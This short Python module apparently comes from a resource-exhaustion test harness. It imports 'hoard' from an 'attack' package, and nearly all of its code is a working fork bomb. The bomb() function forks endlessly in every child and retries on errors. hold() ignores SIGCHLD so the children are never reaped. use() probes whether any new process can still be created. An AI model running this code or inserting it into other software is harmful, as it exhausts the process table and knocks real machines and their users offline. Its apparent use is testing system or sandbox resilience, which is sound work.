# Makes processes that make processes, each as soon as the one before has ended.
# kind: hoard
# control: none, for where no process can be made no program can tell
import os
import signal

from attack import hoard


def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue


def hold():
    # Nobody waits for them.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    if os.fork() == 0:
        bomb()
    return "a bomb"


def use():
    for _ in range(8):
        child = os.fork()
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)


hoard(hold, use)
